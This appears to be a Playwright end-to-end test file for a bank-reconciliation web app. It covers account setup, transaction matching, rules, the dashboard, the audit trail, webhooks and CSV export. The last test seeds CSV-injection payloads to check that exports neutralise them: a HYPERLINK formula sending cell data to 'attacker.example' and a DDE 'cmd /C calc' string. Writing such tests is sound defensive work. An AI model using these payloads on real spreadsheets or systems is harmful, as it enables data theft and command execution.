    const row = card.getByRole('row', { name: /Operating EUR/ });
    await row.getByText('No account yet — set by the first bank statement you import').waitFor();
    await row.getByRole('button', { name: 'Set the account of Operating EUR' }).click();
    const dialog = page.getByRole('dialog', { name: 'Bank account of Operating EUR' });
    await dialog.getByText('A dataset holds the statements of one bank account.', { exact: false }).waitFor();

    // Wrong values are refused next to their fields, in sentences, before the server is asked.
    const account = dialog.getByLabel('Account (IBAN or account number)');
    const currency = dialog.getByLabel('Currency');
    await account.fill('NL91 ABNA 0417 1643 01');
    await currency.fill('E1');
    await dialog.getByRole('button', { name: 'Save' }).click();
    assert.equal(
      await fieldError(page, account),
      'NL91 ABNA 0417 1643 01 is not a valid IBAN: its check digits do not match. Check the number on a bank statement of the account.',
    );
    assert.equal(
      await fieldError(page, currency),
      'The currency is the three-letter code of the account’s currency, such as EUR or USD; leave it empty if you do not know it.',
    );
    assert.equal((await datasetOf(operatingId)).accountId, null, 'nothing was sent');

    // A valid account, typed as people do, and what it means for later statements.
    await account.fill('nl91 abna 0417 1643 00');
    await currency.fill('eur');
    await dialog
      .getByText(
        'From then on, a bank statement of any other account than NL91 ABNA 0417 1643 00 is refused, unless whoever imports one chooses to import it anyway.',
      )
      .waitFor();
    noIds((await dialog.textContent()) ?? '');
    assert.deepEqual(await seriousViolations(page), [], 'the account dialog');
    await screenshotsAt(page, 'account-dialog');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await card.getByRole('status').getByText('Operating EUR now holds the statements of account NL91 ABNA 0417 1643 00 in EUR.').waitFor();
    await row.getByText('Account NL91 ABNA 0417 1643 00 · EUR').waitFor();
    assert.deepEqual(await datasetOf(operatingId).then((dataset) => [dataset.accountId, dataset.currency]), ['NL91ABNA0417164300', 'EUR']);

    // Changing it says which statements are refused from then on; Cancel changes nothing.
    await row.getByRole('button', { name: 'Change the account of Operating EUR' }).click();
    assert.equal(await account.inputValue(), 'NL91 ABNA 0417 1643 00');
    await account.fill('DE89 3704 0044 0532 0130 00');
    await dialog
      .getByText(
        'From then on, statements of DE89 3704 0044 0532 0130 00 are imported here and statements of NL91 ABNA 0417 1643 00, like those of any other account, are refused, unless whoever imports one chooses to import it anyway.',
      )
      .waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });
    assert.equal((await datasetOf(operatingId)).accountId, 'NL91ABNA0417164300');

    // Cleared, the dataset waits for the account of its next statement.
    await row.getByRole('button', { name: 'Change the account of Operating EUR' }).click();
    await account.fill('');
    await currency.fill('');
    await dialog.getByText('Without an account, the dataset takes the account of the next bank statement you import, whichever it is.').waitFor();
    await dialog.getByRole('button', { name: 'Save' }).click();
    await card.getByRole('status').getByText('Operating EUR has no account now; the next bank statement you import gives it one.').waitFor();
    await row.getByText('No account yet — set by the first bank statement you import').waitFor();
    assert.deepEqual(await datasetOf(operatingId).then((dataset) => [dataset.accountId, dataset.currency]), [null, null]);
    // The one id the screen shows is each dataset's, labelled for engineers.
    noIds(((await card.textContent()) ?? '').replace(/Dataset id for the API: [0-9a-f-]{36}/g, ''));
    assert.deepEqual(await seriousViolations(page), []);

    // The two datasets hold an account each; the datasets screen at both sizes.
    await call('PATCH', `/datasets/${operatingId}`, { accountId: 'NL91ABNA0417164300', currency: 'EUR' });
    await call('PATCH', `/datasets/${reserveId}`, { accountId: 'DE89 3704 0044 0532 0130 00', currency: 'EUR' });
    await page.reload();
    await card
      .getByRole('row', { name: /Reserve account/ })
      .getByText('Account DE89 3704 0044 0532 0130 00 · EUR')
      .waitFor();
    await screenshotsAt(page, 'account-datasets', true);

    // A statement of the reserve account sent to the operating account: refused in a sentence
    // naming both accounts, with the dataset that holds it offered, and imported there.
    const foreign =
      [
        ':20:S9',
        ':25:DE89370400440532013000',
        ':28C:9/1',
        ':60F:C240301EUR0,00',
        ':61:2403100310C10,00NTRFR1',
        ':86:Reserve top-up',
        ':62F:C240331EUR10,00',
        '-',
      ].join('\r\n') + '\r\n';
    await page.getByRole('link', { name: 'Imports' }).click();
    await page.getByLabel('Into dataset').selectOption({ label: 'Account Bank · Operating EUR' });
    await page.locator('input[type=file]').setInputFiles({ name: 'reserve.sta', mimeType: 'application/octet-stream', buffer: Buffer.from(foreign) });
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    const report = page.getByRole('region', { name: 'Import report' });
    await report
      .getByText(
        'Nothing of the file was kept. The file holds a statement of account DE89 3704 0044 0532 0130 00, but the dataset "Operating EUR" holds the statements of account NL91 ABNA 0417 1643 00. ' +
          "That account's statements go into Account Bank · Reserve account; import the file there, or here if it belongs here after all.",
      )
      .waitFor();
    noIds((await report.textContent()) ?? '');
    await report.getByRole('button', { name: 'Import it into this dataset anyway' }).waitFor();
    assert.deepEqual(await seriousViolations(page), [], 'the refusal of a statement of another account');
    await screenshotsAt(page, 'account-refused', true);
    await report.getByRole('button', { name: 'Import it into Reserve account instead' }).click();
    await report.getByRole('heading', { name: 'reserve.sta: imported' }).waitFor();
    assert.equal(await page.getByLabel('Into dataset').inputValue(), reserveId, 'the screen follows the file to its dataset');
    assert.equal(((await call('POST', '/transactions', { datasetId: reserveId })).body as any[]).length, 1);
    assert.deepEqual((await call('POST', '/transactions', { datasetId: operatingId })).body, []);
    await page.context().close();
  });

  it('matches several transactions on each side with exact totals, allocates N:M, and classifies with a key', async () => {
    const call = async (method: string, path: string, body?: unknown) => {
      const answer = await api(server, organization.token, method, `/v1/api/${organization.orgId}${path}`, body);
      assert.ok(answer.status < 300, JSON.stringify(answer.body));
      return answer.body;
    };
    const source = await call('POST', '/sources', { name: 'Pair' });
    const bank = await call('POST', `/sources/${source.id}/datasets`, { name: 'Bank side', columns: [] });
    const ledger = await call('POST', `/sources/${source.id}/datasets`, { name: 'Ledger side', columns: [] });
    const day = Date.UTC(2026, 4, 4);
    await call('POST', `/datasets/${bank.id}/transactions`, {
      records: [
        { externalId: 'B1', timestamp: day, amount: '100.10', currency: 'EUR', description: 'deposit one' },
        { externalId: 'B2', timestamp: day + 1, amount: '50.25', currency: 'EUR', description: 'deposit two' },
        { externalId: 'B3', timestamp: day + 2, amount: '9.99', currency: 'EUR', description: 'internal transfer' },
      ],
    });
    await call('POST', `/datasets/${ledger.id}/transactions`, {
      records: [
        { externalId: 'L1', timestamp: day, amount: '60.05', currency: 'EUR', description: 'invoice one' },
        { externalId: 'L2', timestamp: day + 1, amount: '90.30', currency: 'EUR', description: 'invoice two' },
      ],
    });

    const page = await signedIn();
    // React Aria adds a style of its own to the page: the page's Content-Security-Policy allows it.
    const refused: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' && message.text().includes('Content Security Policy')) refused.push(message.text());
    });
    await page.getByRole('link', { name: 'Matching' }).click();
    await page.getByRole('region', { name: 'Left side' }).locator('select').selectOption({ label: 'Pair · Bank side' });
    await page.getByRole('region', { name: 'Right side' }).locator('select').selectOption({ label: 'Pair · Ledger side' });
    const left = page.getByRole('listbox', { name: 'Left transactions' });
    const right = page.getByRole('listbox', { name: 'Right transactions' });
    await left.getByRole('option', { name: /internal transfer/ }).waitFor();
    await right.getByRole('option', { name: /invoice two/ }).waitFor();
    const totals = page.locator('.totals');
    const focusedOption = async () => {
      const { role, text, tag } = await focused(page);
      return role === 'option' ? text : `not an option: ${tag} ${role}`;
    };
    const selected = async (list: Locator) =>
      (await list.locator('[role="option"][aria-selected="true"]').allTextContents()).map(
        (text) => /(deposit one|deposit two|internal transfer|invoice one|invoice two)/.exec(text)?.[1],
      );

    // A list is one tab stop: Tab enters it at its first option and leaves it at the next field.
    await page.getByRole('region', { name: 'Left side' }).getByLabel('Show the marked ones').focus();
    await page.keyboard.press('Tab');
    assert.match(await focusedOption(), /deposit one/);
    await page.keyboard.press('Tab');
    const next = await focused(page);
    assert.equal(`${next.tag} in ${next.section}`, 'SELECT in Right side');
    await page.keyboard.press('Shift+Tab');
    assert.match(await focusedOption(), /deposit one/);
    // Arrows move, Space selects, Shift with an arrow extends the selection; the totals follow.
    await page.keyboard.press('ArrowDown');
    assert.match(await focusedOption(), /deposit two/);
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('Space');
    assert.deepEqual(await selected(left), ['deposit one']);
    assert.equal(await totals.textContent(), 'Left 100.10 EURRight 0.00Difference 100.10 EUR');
    await page.keyboard.press('Shift+ArrowDown');
    assert.match(await focusedOption(), /deposit two/);
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two']);
    assert.equal(await totals.textContent(), 'Left 150.35 EURRight 0.00Difference 150.35 EUR');
    // The range runs from where it began: a step further and back again.
    await page.keyboard.press('Shift+ArrowDown');
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two', 'internal transfer']);
    await page.keyboard.press('Shift+ArrowUp');
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two']);
    await page.keyboard.press('ArrowDown');
    assert.match(await focusedOption(), /internal transfer/);
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two'], 'an arrow alone moves without selecting');
    // A letter does not find in the list (letters are the workspace's keys): the focus stays.
    await page.keyboard.press('d');
    assert.match(await focusedOption(), /internal transfer/);
    // Ctrl+A selects all, Space unselects the one in focus, Escape clears both sides.
    await page.keyboard.press('Control+a');
    assert.equal(await totals.textContent(), 'Left 160.34 EURRight 0.00Difference 160.34 EUR');
    await page.keyboard.press('Space');
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two']);
    await right.getByRole('option', { name: /invoice one/ }).click();
    await page.keyboard.press('Escape');
    assert.deepEqual([await selected(left), await selected(right)], [[], []]);
    assert.equal(await totals.textContent(), 'Left 0.00Right 0.00Difference 0.00');
    // A click, then Shift with a click selects the range between (deposit two with them); Space
    // unselects the last. A click alone adds one option.
    await left.getByRole('option', { name: /deposit one/ }).click();
    await left.getByRole('option', { name: /internal transfer/ }).click({ modifiers: ['Shift'] });
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two', 'internal transfer']);
    await page.keyboard.press('Space');
    assert.deepEqual(await selected(left), ['deposit one', 'deposit two']);
    await right.getByRole('option', { name: /invoice one/ }).click();
    await right.getByRole('option', { name: /invoice two/ }).click();
    assert.deepEqual(await selected(right), ['invoice one', 'invoice two']);
    assert.equal(await totals.textContent(), 'Left 150.35 EURRight 150.35 EURDifference 0.00 EUR');
    assert.deepEqual(await seriousViolations(page), []);
    assert.deepEqual(refused, []);
    await page.keyboard.press('m');
    await page.getByText('Matched: 3 links in one group.').waitFor();

    const statuses = async (datasetId: string) =>
      Object.fromEntries(
        (await call('POST', '/transactions', { datasetId })).map((transaction: any) => [transaction.description, transaction.reconciliationStatus]),
      );
    assert.deepEqual(await statuses(bank.id), { 'deposit one': 'full', 'deposit two': 'full', 'internal transfer': 'none' });
    assert.deepEqual(await statuses(ledger.id), { 'invoice one': 'full', 'invoice two': 'full' });

    await left.getByRole('option', { name: /internal transfer/ }).click();
    await page.keyboard.press('o');
    // The mark asks for an optional reason first.
    await page.getByRole('dialog').getByRole('button', { name: 'Mark out of scope' }).click();
    await page.getByText('Marked out of scope.').waitFor();
    assert.equal((await statuses(bank.id))['internal transfer'], 'out of scope');
    assert.equal(await left.getByRole('option').count(), 0, 'nothing open is left');

    // Undone from the explorer: one link of the group goes, and the statuses follow.
    await page.goto(`${server.baseUrl}/transactions?dataset=${bank.id}`);
    await page.getByRole('row', { name: /deposit one/ }).click();
    const details = page.getByRole('complementary', { name: 'Transaction details' });
    await details.getByRole('button', { name: 'Unmatch' }).first().click();
    await details.waitFor({ state: 'detached' });
    assert.equal((await statuses(bank.id))['deposit one'], 'partial');
    await page.context().close();
  });

  it('writes a rule in the editor that validates as one types, dry-runs it, commits and reverts the run, and decides a suggestion', async () => {
    const call = async (method: string, path: string, body?: unknown) => {
      const answer = await api(server, organization.token, method, `/v1/api/${organization.orgId}${path}`, body);
      assert.ok(answer.status < 300, JSON.stringify(answer.body));
      return answer.body;
    };
    const source = await call('POST', '/sources', { name: 'Rules pair' });
    const bank = await call('POST', `/sources/${source.id}/datasets`, { name: 'Statement', columns: [] });
    const ledger = await call('POST', `/sources/${source.id}/datasets`, { name: 'Books', columns: [] });
    const day = Date.UTC(2026, 5, 1);
    await call('POST', `/datasets/${bank.id}/transactions`, {
      records: [
        { externalId: 'S1', timestamp: day, amount: '42.00', currency: 'EUR', description: 'card payment' },
        { externalId: 'S2', timestamp: day, amount: '17.50', currency: 'EUR', description: 'cash deposit' },
      ],
    });
    await call('POST', `/datasets/${ledger.id}/transactions`, {
      records: [
        { externalId: 'K1', timestamp: day, amount: '42.00', currency: 'EUR', description: 'sale 1' },
        { externalId: 'K2', timestamp: day, amount: '17.50', currency: 'EUR', description: 'sale 2' },
        { externalId: 'K3', timestamp: day, amount: '17.50', currency: 'EUR', description: 'sale 3' },
      ],
    });
    const statuses = async (datasetId: string) =>
      Object.fromEntries(
        (await call('POST', '/transactions', { datasetId })).map((transaction: any) => [transaction.description, transaction.reconciliationStatus]),
      );

    const page = await signedIn();
    await page.getByRole('link', { name: 'Rules and runs' }).click();
    await page.getByRole('button', { name: 'New rule' }).click();
    const editor = page.getByRole('region', { name: 'Rule editor' });
    // An engineer writes the rule in the JSON view, which the form follows.
    await editor.getByRole('button', { name: /JSON view/ }).click();
    const text = editor.getByLabel('The rule as the API takes it');
    const rule = {
      name: 'Same amount, same day',
      origin: { datasetIds: [bank.id] },
      target: { datasetIds: [ledger.id] },
      cardinality: '1:1',
      conditions: [
        { type: 'amount', sign: 'same' },
        { type: 'date', path: 'timestamp', min: '-P1D', max: 'P1D' },
      ],
    };
    await text.fill(JSON.stringify({ ...rule, conditions: [{ type: 'amount', sign: 'sideways' }] }));
    // The problem names the field in words (condition 1, its sign), not by its place in the JSON.
    await editor.getByText(/^Condition 1, sign: /).waitFor();
    assert.equal(await editor.getByRole('button', { name: 'Create rule' }).isDisabled(), true);
    await text.fill(JSON.stringify(rule));
    await editor.getByText('The rule is valid.').waitFor();
    assert.equal(await editor.getByLabel('Name', { exact: true }).inputValue(), 'Same amount, same day', 'the form follows the JSON');
    assert.deepEqual(await seriousViolations(page), []);
    await editor.getByRole('button', { name: 'Create rule' }).click();
    await page.getByRole('cell', { name: 'Same amount, same day', exact: true }).waitFor();

    const runs = page.getByRole('region', { name: 'Runs' });
    await runs.getByRole('button', { name: 'Dry run' }).click();
    const commit = runs.getByRole('button', { name: 'Commit', exact: true });
    await commit.waitFor();
    assert.match((await runs.getByRole('row').nth(1).textContent()) ?? '', /Dry run.*Finished · examined \d+ of \d+ · matched 1, suggested 0, ambiguous 1/);
    assert.equal((await statuses(bank.id))['card payment'], 'none', 'a dry run changes nothing');
    await commit.click();
    await runs.getByText('Dry run (committed)').waitFor();
    assert.equal((await statuses(bank.id))['card payment'], 'full');

    // 17.50 fits two ledger lines equally: a suggestion, decided here.
    const suggestions = page.getByRole('region', { name: 'Suggestions' });
    await suggestions.getByRole('button', { name: 'Confirm option 1' }).click();
    await suggestions.getByText('Nothing to decide.').waitFor();
    assert.equal((await statuses(bank.id))['cash deposit'], 'full');

    page.once('dialog', (dialog) => void dialog.accept());
    await runs.getByRole('button', { name: 'Revert' }).first().click();
    await runs
      .getByText(/Reverted ·/)
      .first()
      .waitFor();
    assert.equal((await statuses(bank.id))['card payment'], 'none');
    await page.context().close();
  });

  it('shows the dashboard: reconciled share by month, open amounts by age with exact totals, rule hits', async () => {
    const page = await signedIn();
    await page.getByRole('link', { name: 'Dashboard' }).click();
    await page.getByLabel('Dataset').selectOption({ label: 'Rules pair · Statement' });
    const ages = page.getByRole('region', { name: 'Open amounts by age' });
    await ages.getByRole('row', { name: /0–7 days/ }).waitFor();
    // The rules test left both statement lines open again after its revert: 42.00 + 17.50, and the confirmed suggestion's 17.50 is matched.
    const summary = await api(
      server,
      organization.token,
      'GET',
      `/v1/api/${organization.orgId}/datasets/${await page.getByLabel('Dataset').inputValue()}/summary`,
    );
    const total = summary.body.openByAge.reduce((count: number, bucket: { count: number }) => count + bucket.count, 0);
    await page.getByText(new RegExp(`open in ${total} ${total === 1 ? 'transaction' : 'transactions'}\\b`)).waitFor();
    for (const bucket of summary.body.openByAge) {
      const label = { '0-7': '0–7 days', '8-30': '8–30 days', '31-90': '31–90 days', '>90': 'over 90 days' }[bucket.bucket as '0-7']!;
      assert.match(
        (await ages.getByRole('row', { name: new RegExp(label) }).textContent()) ?? '',
        new RegExp(`${bucket.count}${bucket.amount.replace('.', '\\.')}$`),
      );
    }
    await page.getByRole('region', { name: 'Reconciled share by month' }).locator('svg').first().waitFor();
    assert.deepEqual(await seriousViolations(page), []);
    await page.context().close();
  });

  it('shows the audit trail of the changes made in the app, with who made them', async () => {
    const page = await signedIn();
    await page.getByRole('link', { name: 'Audit' }).click();
    await page.getByRole('heading', { name: 'Audit trail' }).waitFor();
    // The earlier tests matched, classified, invited and deactivated, all as this person, who is named by email.
    for (const action of ['Matched', 'Status changed', 'Person invited', 'Person changed']) {
      await page.getByRole('cell', { name: action, exact: true }).first().waitFor();
    }
    assert.ok((await page.getByRole('cell', { name: organization.user!.email, exact: true }).count()) > 0);
    await page.getByLabel('From').fill('2026-03-02');
    await page.getByLabel('To').fill('2026-03-01');
    await page.getByText('The first day comes after the last one').waitFor();
    assert.deepEqual(await seriousViolations(page), []);
    await page.context().close();
  });

  it("keeps the page and says what to do when a screen's code cannot be loaded, and shows the screen again after a reload", async () => {
    const page = await signedIn();
    await page.getByRole('heading', { name: 'Sources and datasets' }).waitFor();
    // The audit screen's code fails to arrive, as after a server upgrade or on a broken connection.
    await page.route(/\/assets\/AuditPage-[^/]+\.js$/, (route) => route.abort());
    await page.getByRole('link', { name: 'Audit' }).click();
    await page.getByRole('heading', { name: 'This screen could not be shown' }).waitFor();
    await page.getByText('Its code could not be loaded from the server').waitFor();
    // The frame stays: another screen opens, and the error goes.
    await page.getByRole('link', { name: 'Datasets' }).first().click();
    await page.getByRole('heading', { name: 'Sources and datasets' }).waitFor();
    assert.equal(await page.getByRole('heading', { name: 'This screen could not be shown' }).count(), 0);
    // Once the code arrives again, a reload shows the screen.
    await page.unroute(/\/assets\/AuditPage-[^/]+\.js$/);
    await page.goto(`${server.baseUrl}/audit`);
    await page.getByRole('heading', { name: 'Audit trail' }).waitFor();
    await page.context().close();
  });

  it("creates a webhook endpoint with its secret shown once, sends a test message that the receiver verifies with the page's own code, and shows the delivery, its attempts, a redelivery and a rotation", async () => {
    const receiver = await startReceiver();
    receivers.push(receiver);
    const url = `${receiver.url}/hooks/ledger-recon`;
    const page = await signedIn();
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.getByRole('link', { name: 'Developer' }).click();
    const section = page.getByRole('region', { name: 'Webhook endpoints' });
    await section.getByText('No webhook endpoints yet. Add the URL of your receiver below').waitFor();

    // The API's own words for a bad URL, tied to the field.
    const form = section.getByRole('form', { name: 'Add an endpoint' });
    const urlField = form.getByLabel('Endpoint URL');
    await urlField.fill('receiver.example.com/hooks');
    await form.getByRole('button', { name: 'Create endpoint' }).click();
    await form.getByText('Endpoint URL is not an absolute URL; give the full address of your receiver').waitFor();
    assert.match(await fieldError(page, urlField), /not an absolute URL/);
    assert.deepEqual(await seriousViolations(page), []);
    // One the form lets through and the server refuses: its words, tied to the field the same way.
    await urlField.fill('https://robot:secret@receiver.example.com/hooks');
    await form.getByRole('button', { name: 'Create endpoint' }).click();
    await form.getByText('Endpoint URL must not carry a user name or password').waitFor();
    assert.match(
      await fieldError(page, urlField),
      /^Endpoint URL must not carry a user name or password; receivers check the webhook-signature header instead\.$/,
    );

    await urlField.fill(url);
    await form.getByLabel('Description').fill('ERP sync');
    await form.getByRole('checkbox', { name: /run\.completed/ }).check();
    await form.getByRole('checkbox', { name: /import\.failed/ }).check();
    await form.getByRole('button', { name: 'Create endpoint' }).click();
    const reveal = page.getByRole('region', { name: `Webhook endpoint created for ${url}` });
    await reveal.waitFor();
    assert.equal(await page.evaluate('document.activeElement.textContent'), `Webhook endpoint created for ${url}`, 'the secret takes the focus');
    const secret = (await reveal.locator('.field code').textContent())!;
    assert.match(secret, /^whsec_/);
    assert.equal(await copiedBy(page, () => reveal.getByRole('button', { name: 'Copy Signing secret' }).click()), secret);
    const snippet = (await reveal.locator('pre').textContent())!;
    assert.match(snippet, /new Webhook\(process\.env\.WEBHOOK_SECRET\)/);
    assert.equal(await form.getByLabel('Endpoint URL').inputValue(), '', 'the form is emptied for the next one');
    assert.deepEqual(await seriousViolations(page), []);
    await reveal.getByRole('button', { name: 'I have stored the secret' }).click();
    assert.ok(!(await page.content()).includes(secret), 'the secret is nowhere on the page once dismissed');

    const endpoint = section.getByRole('article', { name: url });
    await endpoint.getByText('Enabled', { exact: true }).waitFor();
    assert.match((await endpoint.textContent()) ?? '', /DescriptionERP sync/);
    assert.match((await endpoint.textContent()) ?? '', /Eventsimport\.failed, run\.completed/);
    await endpoint.getByText('No deliveries yet. Send a test message').waitFor();

    // From the keyboard.
    await endpoint.getByRole('button', { name: 'Send test message' }).focus();
    await page.keyboard.press('Enter');
    const deliveries = endpoint.getByRole('table', { name: `Deliveries to ${url}` });
    const row = deliveries.getByRole('row').nth(1);
    await row.getByRole('cell', { name: 'Succeeded' }).waitFor();
    const cells = await row.getByRole('cell').allTextContents();
    assert.equal(cells[1], 'webhook.test');
    assert.equal(cells[3], '1');
    assert.equal(cells[4], '204');
    assert.match(cells[5]!, /^\d+ ms$/);
    assert.equal(cells[6], '—', 'no next attempt for a delivery that succeeded');

    // What the receiver got verifies with the secret read from the page, with the library and with
    // the page's snippet run as written; a wrong secret does not.
    assert.equal(receiver.received.length, 1);
    const received = receiver.received[0]!;
    const message = verify(secret, received);
    assert.equal(message.type, 'webhook.test');
    const runSnippet = new Function('Webhook', 'process', 'body', 'request', `${snippet.replace(/^import .*$/m, '')}\nreturn message;`);
    assert.deepEqual(runSnippet(Webhook, { env: { WEBHOOK_SECRET: secret } }, received.body, { headers: received.headers }), message);
    assert.throws(() => verify(`whsec_${Buffer.from('not the secret of this endpoint').toString('base64')}`, received), /No matching signature/);

    await row.getByRole('button', { name: /^Attempts of the webhook\.test delivery/ }).click();
    const attempts = deliveries.getByRole('list', { name: 'Attempts of the webhook.test delivery' });
    await attempts.getByText(/: answered 204 in \d+ ms$/).waitFor();
    assert.deepEqual(await seriousViolations(page), []);

    await row.getByRole('button', { name: /^Redeliver the webhook\.test delivery/ }).click();
    await eventually(() => receiver.received.length === 2, 'the redelivery');
    assert.equal(receiver.received[1]!.id, received.id, 'the same webhook-id again');
    await eventually(
      async () => (await row.getByRole('cell').nth(3).textContent()) === '2' && (await attempts.getByRole('listitem').count()) === 2,
      'the second attempt shown',
    );
    assert.equal(await row.getByRole('cell').nth(2).textContent(), 'Succeeded');

    await endpoint.getByRole('button', { name: 'Rotate secret' }).click();
    const rotated = page.getByRole('region', { name: `New signing secret for ${url}` });
    const newSecret = (await rotated.locator('.field code').textContent())!;
    assert.match(newSecret, /^whsec_/);
    assert.notEqual(newSecret, secret);
    assert.match((await rotated.textContent()) ?? '', /The old secret keeps working for 24 hours/);
    await rotated.getByRole('button', { name: 'I have stored the secret' }).click();
    await endpoint.getByText('The previous signing secret also signs until').waitFor();

    await endpoint.getByRole('button', { name: 'Disable' }).click();
    await endpoint.getByText('Disabled', { exact: true }).waitFor();
    assert.equal(await endpoint.getByRole('button', { name: 'Send test message' }).count(), 0);
    assert.equal(await row.getByRole('button', { name: /^Redeliver/ }).isDisabled(), true);
    const stored = await api(server, organization.token, 'GET', `/v1/api/${organization.orgId}/webhook-endpoints`);
    assert.deepEqual(
      stored.body.map((entry: { enabled: boolean; disabledReason: string }) => [entry.enabled, entry.disabledReason]),
      [[false, 'requested']],
    );
    await endpoint.getByRole('button', { name: 'Enable', exact: true }).click();
    await endpoint.getByText('Enabled', { exact: true }).waitFor();

    page.once('dialog', (dialog) => void dialog.accept());
    await endpoint.getByRole('button', { name: 'Delete' }).click();
    await endpoint.waitFor({ state: 'detached' });
    await section.getByText('No webhook endpoints yet').waitFor();
    assert.deepEqual((await api(server, organization.token, 'GET', `/v1/api/${organization.orgId}/webhook-endpoints`)).body, []);
    await page.context().close();
  });

  it('tells an Administrator on every page of an endpoint disabled after failing, shows why on the developer page, and turns it back on', async () => {
    const down = await startReceiver();
    receivers.push(down);
    down.respond = (_request, response) => void response.writeHead(500).end();
    const call = (method: string, path: string, body?: unknown) =>
      api(server, organization.token, method, `/v1/api/${organization.orgId}/webhook-endpoints${path}`, body);
    const created = (await call('POST', '', { url: `${down.url}/down`, description: 'Warehouse' })).body;
    // An endpoint is disabled by a failure more than the give-up period (1 s here) after its first: test messages until then.
    await eventually(async () => {
      if ((await call('GET', `/${created.id}`)).body.disabledReason === 'failing') return true;
      await call('POST', `/${created.id}/test`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return false;
    }, 'the endpoint disabled after failing');

    const page = await signedIn();
    const banner = page.getByRole('status').filter({ hasText: 'Webhooks stopped.' });
    await banner.waitFor();
    assert.match(
      (await banner.textContent()) ?? '',
      new RegExp(`The endpoint ${down.url}/down was disabled on .+ after every delivery failed since .+; no events are sent to it\\.`),
    );
    assert.deepEqual(await seriousViolations(page), []);
    await banner.getByRole('link', { name: 'Fix and enable on the Developer page' }).click();

    const endpoint = page.getByRole('article', { name: `${down.url}/down` });
    await endpoint.getByText('Disabled after failing', { exact: true }).waitFor();
    assert.equal(await banner.count(), 0, 'the developer page shows it at the endpoint instead');
    assert.equal(await page.evaluate('document.activeElement.textContent'), 'Webhook endpoints', 'the link leads to the section');
    assert.match((await endpoint.textContent()) ?? '', /Every delivery failed from .+ until it was disabled on .+; no events have been sent to it since\./);
    assert.match((await endpoint.textContent()) ?? '', /To turn it back on, fix the receiver/);
    // The last test message was not sent (the endpoint was disabled by then); the ones before failed with the receiver's 500.
    const failed = endpoint
      .getByRole('table', { name: `Deliveries to ${down.url}/down` })
      .getByRole('row')
      .filter({ has: page.getByRole('cell', { name: /^500/ }) })
      .first();
    await failed.getByRole('cell', { name: 'Failed' }).waitFor();
    assert.deepEqual(await seriousViolations(page), []);

    await endpoint.getByRole('button', { name: 'Enable again' }).click();
    await endpoint.getByText('Enabled', { exact: true }).waitFor();
    assert.equal((await call('GET', `/${created.id}`)).body.enabled, true);
    await page.getByRole('link', { name: 'Datasets' }).click();
    await page.getByRole('heading', { name: 'Sources and datasets' }).waitFor();
    assert.equal(await banner.count(), 0, 'no banner once it is enabled again');
    await call('DELETE', `/${created.id}`);
    await page.context().close();
  });

  it('exports CSV that no spreadsheet runs: text that would start a formula gets a quote in front, amounts and number columns stay numbers', async () => {
    const call = (method: string, path: string, body?: unknown) => api(server, organization.token, method, `/v1/api/${organization.orgId}${path}`, body);
    const source = (await call('POST', '/sources', { name: 'Formula Bank' })).body;
    const dataset = (
      await call('POST', `/sources/${source.id}/datasets`, {
        name: 'Hostile statement',
        columns: [
          { name: 'memo', type: 'string' },
          { name: 'fee', type: 'money' },
        ],
      })
    ).body;
    const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice")';
    const records = [
      {
        externalId: 'F1',
        timestamp: Date.UTC(2026, 2, 1),
        amount: '-25.00',
        currency: 'EUR',
        description: hostile,
        reference: '@SUM(A1:A9)',
        memo: "+1+cmd|' /C calc'!A0",
        fee: '-0.50',
      },
      {
        externalId: 'F2',
        timestamp: Date.UTC(2026, 2, 2),
        amount: '12.00',
        currency: 'EUR',
        description: '\t=1+1',
        reference: '-2+3',
        memo: 'plain text',
        fee: '1.25',
      },
    ];
    assert.equal((await call('POST', `/datasets/${dataset.id}/transactions`, { records })).status, 200);

    const page = await signedIn();
    await page.goto(`${server.baseUrl}/transactions?dataset=${dataset.id}`);
    await page.getByText('2 transactions', { exact: false }).first().waitFor();
    await page.getByRole('checkbox', { name: 'Memo' }).check();
    await page.getByRole('checkbox', { name: 'Fee' }).check();
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByRole('columnheader', { name: 'Fee' }).waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
    const rows = parse(readFileSync((await download.path())!, 'utf8'), { columns: true }) as Record<string, string>[];
    assert.deepEqual(
      rows.map(({ amount, description, reference, memo, fee }) => ({ amount, description, reference, memo, fee })),
      [
        { amount: '-25.00', description: `'${hostile}`, reference: "'@SUM(A1:A9)", memo: "'+1+cmd|' /C calc'!A0", fee: '-0.50' },
        { amount: '12.00', description: "'\t=1+1", reference: "'-2+3", memo: 'plain text', fee: '1.25' },
      ],
    );
    await page.context().close();
  });
});
